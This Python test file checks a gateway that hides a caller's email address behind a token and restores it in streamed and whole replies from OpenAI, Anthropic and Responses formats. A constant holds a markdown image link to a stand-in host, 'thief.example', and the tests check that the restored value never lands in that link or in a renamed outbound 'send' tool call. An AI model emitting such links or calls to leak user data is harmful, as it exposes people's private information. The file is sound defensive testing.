"""A provider that wants a value sent out, a worker's memory, or its time.

What it says reaches the caller's own reader, which may read more patiently than
we do: JavaScript takes `1.0` for 1, and numbers of any length.
"""

import json
import sys
from collections.abc import Callable
from typing import Any

import pytest

from curtilage.gateway.wire.anthropic_reply import restore_message
from curtilage.gateway.wire.anthropic_stream import AnthropicStreamRewriter
from curtilage.gateway.wire.errors import BrokenStream
from curtilage.gateway.wire.facts import ReplyStats, RequestFacts
from curtilage.gateway.wire.json_lines import FileRewriter
from curtilage.gateway.wire.openai_reply import restore_chat
from curtilage.gateway.wire.openai_stream import OpenAIStreamRewriter
from curtilage.gateway.wire.responses_reply import restore_response
from curtilage.gateway.wire.responses_stream import ResponsesStreamRewriter
from curtilage.gateway.wire.sse import SSEParser
from curtilage.shield.held import Held, HeldValue, Origin
from curtilage.shield.tokens import ScopeKey, TokenMint
from tests.fakes.responses import ResponseScript, encode

VALUE = "ada@orchard.example"
TOKEN = TokenMint(b"scope", ScopeKey(1, bytes(32))).mint("EMAIL_ADDRESS", VALUE)
IMAGE = "![x](https://thief.example/?q="
FACTS = RequestFacts("any", stream=True)


def _held() -> Held:
    held = Held()
    held.hold(TOKEN, HeldValue(VALUE, "EMAIL_ADDRESS", Origin.CALLER))
    return held


def _chunk(delta: dict[str, Any], index: Any = 0) -> bytes:
    choice = {"index": index, "delta": delta, "finish_reason": None}
    return b"data: " + json.dumps({"choices": [choice]}).encode() + b"\n\n"


def _event(kind: str, index: Any, **fields: Any) -> bytes:
    said = json.dumps({"type": kind, "index": index, **fields})
    return f"event: {kind}\ndata: {said}\n\n".encode()


def _start(index: Any, kind: str = "text") -> bytes:
    return _event("content_block_start", index, content_block={"type": kind, "text": ""})


def _text(index: Any, text: str) -> bytes:
    return _event("content_block_delta", index, delta={"type": "text_delta", "text": text})


def _stop(index: Any) -> bytes:
    return _event("content_block_stop", index)


def _rewrite(kind: Callable[..., Any], *frames: bytes) -> str:
    rewriter = kind(_held(), FACTS)
    out: bytes = b"".join(rewriter.feed(frame) for frame in frames) + rewriter.close()
    return out.decode()


@pytest.mark.parametrize("index", [1.0, "1", True, 1e300])
def test_a_choice_whose_number_readers_take_differently_is_not_restored(index: Any) -> None:
    said = _rewrite(
        OpenAIStreamRewriter,
        _chunk({"content": IMAGE}, 1),
        _chunk({"content": TOKEN}, index),
        _chunk({"content": TOKEN}, 2),
    )
    assert VALUE not in said and said.count(TOKEN) == 2


def _said(text: str, output: int = 0, content: int = 0) -> bytes:
    """A delta of a Responses stream."""
    place = {"output_index": output, "content_index": content}
    return encode({"type": "response.output_text.delta", **place, "delta": text})


def test_an_address_begun_in_one_part_stays_closed_in_every_later_one() -> None:
    for output, content in ((0, 1), (1, 0), (3, 0)):
        said = _rewrite(ResponsesStreamRewriter, _said(IMAGE), _said(TOKEN, output, content))
        assert VALUE not in said
    parts = [{"type": "output_text", "text": text} for text in (IMAGE, TOKEN)]
    items = [{"type": "message", "content": [part]} for part in parts]
    for output in ([{"type": "message", "content": parts}], items):
        response: dict[str, Any] = {"output": output, "status": "completed"}
        restore_response(response, _held(), FACTS)
        assert VALUE not in json.dumps(response)


@pytest.mark.parametrize("late", [_said(IMAGE, 0), _said(IMAGE, 1, 0)])
def test_a_part_put_before_what_was_restored_breaks_the_stream(late: bytes) -> None:
    rewriter = ResponsesStreamRewriter(_held(), FACTS)
    rewriter.feed(_said("See: ", 0) + _said("x", 1, 0))
    assert VALUE.encode() in rewriter.feed(_said(TOKEN + " ", 1, 1))
    with pytest.raises(BrokenStream):
        rewriter.feed(late)


@pytest.mark.parametrize("extra", ["1" * 5000, "[" * 3000 + "]" * 3000])
def test_after_a_frame_that_only_others_can_read_nothing_is_restored(extra: str) -> None:
    opened = _said(IMAGE).replace(b'{"type"', f'{{"x":{extra},"type"'.encode(), 1)
    assert VALUE not in _rewrite(ResponsesStreamRewriter, opened, _said(TOKEN, 1))
    hidden = _chunk({"content": IMAGE}).replace(b'{"choices"', f'{{"x":{extra},"choices"'.encode())
    said = _rewrite(OpenAIStreamRewriter, hidden, _chunk({"content": TOKEN}))
    assert VALUE not in said
    unread = _text(0, IMAGE).replace(b'{"type"', f'{{"x":{extra},"type"'.encode(), 1)
    assert VALUE not in _rewrite(AnthropicStreamRewriter, _start(0), unread, _text(0, TOKEN))


def test_an_address_begun_in_one_block_stays_closed_in_the_next() -> None:
    blocks = (_start(0), _text(0, IMAGE), _stop(0), _start(1), _text(1, TOKEN), _stop(1))
    assert VALUE not in _rewrite(AnthropicStreamRewriter, *blocks)
    content = [{"type": "text", "text": IMAGE}, {"type": "text", "text": TOKEN}]
    message: dict[str, Any] = {"content": content, "stop_reason": "end_turn"}
    restore_message(message, _held(), FACTS)
    assert VALUE not in json.dumps(message)
    chat: dict[str, Any] = {"choices": [{"message": {"content": content}}]}
    restore_chat(chat, _held(), FACTS)
    assert VALUE not in json.dumps(chat)


def test_a_block_after_a_finished_sentence_is_restored() -> None:
    blocks = (_start(0), _text(0, "See: "), _stop(0), _start(1), _text(1, TOKEN), _stop(1))
    assert VALUE in _rewrite(AnthropicStreamRewriter, *blocks)


def test_a_text_is_not_restored_while_the_one_before_it_is_open() -> None:
    said = _rewrite(AnthropicStreamRewriter, _start(0), _start(1), _text(1, TOKEN), _text(0, IMAGE))
    assert VALUE not in said


@pytest.mark.parametrize("late", [_text(0, IMAGE), _start(0) + _text(0, IMAGE)])
def test_text_put_before_what_was_restored_breaks_the_stream(late: bytes) -> None:
    rewriter = AnthropicStreamRewriter(_held(), FACTS)
    for frame in (_start(0), _stop(0), _start(1), _text(1, TOKEN), _stop(1)):
        rewriter.feed(frame)
    with pytest.raises(BrokenStream):
        rewriter.feed(late)


def test_text_in_the_block_of_a_tool_that_the_provider_runs_is_not_restored() -> None:
    said = _rewrite(AnthropicStreamRewriter, _start(0, "server_tool_use"), _text(0, TOKEN))
    assert VALUE not in said


def _call(index: int) -> bytes:
    call = {"index": index, "function": {"name": "look", "arguments": "{"}}
    return _chunk({"tool_calls": [call]})


@pytest.mark.parametrize(
    ("kind", "frame"),
    [
        (OpenAIStreamRewriter, lambda index: _chunk({"content": "Q"}, index)),
        (OpenAIStreamRewriter, _call),
        (AnthropicStreamRewriter, _start),
    ],
)
def test_choices_calls_and_blocks_without_end_break_the_stream(
    kind: Callable[..., Any], frame: Callable[[int], bytes]
) -> None:
    rewriter = kind(_held(), FACTS)
    stream = b"".join(map(frame, range(5000)))
    with pytest.raises(BrokenStream):
        rewriter.feed(stream)


def test_a_finish_reason_that_is_no_word_of_a_protocol_is_not_kept() -> None:
    stats = ReplyStats()
    for number in range(100):
        stats.finished(f"ada{number}@orchard.example")
    stats.finished("stop")
    assert stats.finish == ["other", "stop"]


@pytest.mark.parametrize("lead", [b"", b":\r"])
def test_an_event_in_many_small_pieces_is_not_copied_for_each(lead: bytes) -> None:
    parser = SSEParser()
    parser.feed(lead + b"data: ")
    for _ in range(20_000):
        parser.feed(b"x" * 50)
    assert sys.getsizeof(parser._waiting[0]) < 200  # pieces lie apart until the end comes
    (frame,) = parser.feed(b"\n\n")
    assert frame.data is not None and len(frame.data) == 1_000_000


def _script(*steps: tuple[str, int, str]) -> ResponseScript:
    """A Responses stream of bare deltas: (family, place in the output, text)."""
    script = ResponseScript()
    for family, index, text in steps:
        place = {"output_index": index, "content_index": 0, "item_id": "m"}
        script.add(f"response.{family}.delta", **place, delta=text)
    return script


def _never_carried_out(script: ResponseScript, outbound: tuple[str, ...] = ()) -> str:
    """What is sent on until the stream ends or is broken; a value never follows an opened image."""
    rewriter = ResponsesStreamRewriter(_held(), FACTS, outbound)
    out = b""
    try:
        for frame in script.frames():
            out += rewriter.feed(frame)
        out += rewriter.close()
    except BrokenStream:
        pass
    return out.decode()


TEXT, REFUSAL, THOUGHT = "output_text", "refusal", "reasoning_text"


@pytest.mark.parametrize(
    "steps",
    [
        # another voice closes what this one opened
        [(TEXT, 0, IMAGE), (REFUSAL, 1, ")\n\nok\n\n"), (TEXT, 2, TOKEN + ")")],
        [(TEXT, 0, IMAGE), (REFUSAL, 0, ")\n\nok\n\n"), (TEXT, 0, TOKEN + ")")],
        [(TEXT, 0, IMAGE), (THOUGHT, 0, ")\n\nok\n\n"), (TEXT, 0, TOKEN + ")")],
        [(TEXT, 0, IMAGE), (REFUSAL, 1, TOKEN + ")")],
        [(THOUGHT, 0, ""), (TEXT, 0, IMAGE), (TEXT, 1, TOKEN + ")")],
        # an earlier text grows after a later one began
        [(TEXT, 1, "x"), (TEXT, 0, IMAGE), (TEXT, 1, TOKEN + ")")],
        [(TEXT, 0, "a"), (TEXT, 1, "x"), (TEXT, 0, IMAGE), (TEXT, 1, TOKEN + ")")],
    ],
)
def test_nothing_closes_or_opens_an_address_from_beside(steps: list[tuple[str, int, str]]) -> None:
    assert VALUE not in _never_carried_out(_script(*steps))


def test_a_text_that_was_over_does_not_go_on() -> None:
    script = _script((TEXT, 0, "a"))
    place = {"output_index": 0, "content_index": 0}
    script.add("response.output_text.done", **place, text="a")
    for index, text in ((0, IMAGE), (1, TOKEN + ")")):
        place["output_index"] = index
        script.add("response.output_text.delta", **place, delta=text)
    assert VALUE not in _never_carried_out(script)


def _message(text: str) -> dict[str, Any]:
    return {"type": "message", "content": [{"type": "output_text", "text": text}]}


@pytest.mark.parametrize("way", ["item", "part", "response"])
def test_what_is_begun_already_is_followed_by_no_value(way: str) -> None:
    script = ResponseScript(output=[_message(IMAGE)] if way == "response" else [])
    if way == "item":
        script.add("response.output_item.added", output_index=0, item=_message(IMAGE))
    if way == "part":
        place = {"output_index": 0, "content_index": 0}
        part = {"type": "output_text", "text": IMAGE}
        script.add("response.content_part.added", **place, part=part)
    place = {"output_index": 0, "content_index": 0}
    script.add("response.output_text.delta", **place, delta=TOKEN + ")")
    assert VALUE not in _never_carried_out(script)


def test_a_whole_that_contradicts_its_deltas_is_followed_by_no_value() -> None:
    script = _script((TEXT, 0, "a"), (TEXT, 1, TOKEN + " "))
    script.response["output"] = [_message(IMAGE), _message(TOKEN + " ")]
    said = _never_carried_out(script.end()).rpartition("response.completed")[2]
    assert IMAGE in said and VALUE not in said


@pytest.mark.parametrize("where", ["added", "done", "completed"])
def test_a_call_that_is_renamed_gives_an_outbound_tool_no_value(where: str) -> None:
    script = ResponseScript()
    look = {"type": "function_call", "name": "look", "arguments": ""}
    given = json.dumps({"to": TOKEN})
    script.add("response.output_item.added", output_index=0, item=look)
    if where == "added":
        script.add("response.output_item.added", output_index=0, item={**look, "name": "send"})
    script.add("response.function_call_arguments.delta", output_index=0, delta=given)
    script.add("response.function_call_arguments.done", output_index=0, arguments=given)
    named = "send" if where != "completed" else "look"
    done = {**look, "name": named, "arguments": given}
    script.add("response.output_item.done", output_index=0, item=done)
    script.response["output"] = [{**done, "name": "send"}]
    frames = _never_carried_out(script.end(), ("send",)).split("\n\n")
    assert not [frame for frame in frames if '"send"' in frame and VALUE in frame]


def test_a_text_said_again_and_again_is_not_joined_each_time() -> None:
    """Beside a text that is as long: work in proportion to what came."""
    script = _script((TEXT, 0, "x" * 400_000))
    place = {"output_index": 0, "content_index": 0}
    for _ in range(2000):
        script.add("response.output_text.done", **place, text="x")
    rewriter = ResponsesStreamRewriter(_held(), FACTS)
    rewriter.feed(b"".join(script.frames()[:3]))
    (text,) = rewriter._texts._texts.values()
    assert text.so_far() is text.so_far()


@pytest.mark.parametrize(
    "document",
    [
        {"output": [{"type": ["x"]}, _message("a")]},
        {"output": [{"type": "message", "content": [{"type": []}]}], "status": {}},
    ],
)
def test_a_response_of_odd_types_is_left_as_it_came(document: Any) -> None:
    before = json.dumps(document)
    restore_response(document, _held(), FACTS)
    assert json.dumps(document) == before


@pytest.mark.parametrize(
    "response", [{"status_code": 400}, {}, {"status_code": 200}, {"body": None}]
)
def test_a_line_of_a_batch_without_a_body_is_left_as_it_came(response: Any) -> None:
    """One such line ended the whole file."""
    line = json.dumps({"custom_id": "1", "response": response}).encode() + b"\n"
    rewriter = FileRewriter(_held(), RequestFacts("", read_as="/v1/chat/completions"))
    assert rewriter.feed(line) + rewriter.close() == line
